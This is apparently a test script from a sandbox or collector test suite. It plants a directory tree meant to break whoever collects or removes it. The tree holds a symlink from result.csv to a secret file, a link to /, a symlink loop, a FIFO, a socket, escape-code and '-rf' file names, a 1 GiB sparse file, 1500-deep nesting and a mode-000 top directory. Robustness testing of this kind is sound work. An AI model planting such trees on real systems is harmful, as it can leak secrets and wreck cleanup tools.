# /// attack
# tries = "leave a tree that breaks whoever collects or removes it: links, pipes, holes, depth, names, no permissions"
# requirement = "F5"
# layer = "clean-up"
# [control]
# stdout = "planted"
# [inside]
# stdout = "planted"
# within = 20
# ///
import json
import os
import socket
import sys

canary = json.loads(sys.argv[1])
os.mkdir("tree")
os.chdir("tree")
os.symlink(canary["secret_file"], "result.csv")
os.symlink("/", "root")
os.symlink("loop", "loop")
os.mkfifo("pipe.png")
socket.socket(socket.AF_UNIX).bind("socket.json")
for name in (b"new\nline", b"escape\x1b[2J", b"not utf-8 \xff\xfe", b"n" * 255, b"-rf", b"..."):
    os.close(os.open(name, os.O_CREAT | os.O_WRONLY, 0o600))
with open("hole.bin", "wb") as file:
    file.truncate(1 << 30)
os.link("hole.bin", "second-name.bin")
for number in range(2000):
    open(f"many-{number}", "w").close()
top = os.open(".", os.O_RDONLY)
for _ in range(1500):
    os.mkdir("d")
    os.chdir("d")
os.chmod(top, 0o000)
print("planted")
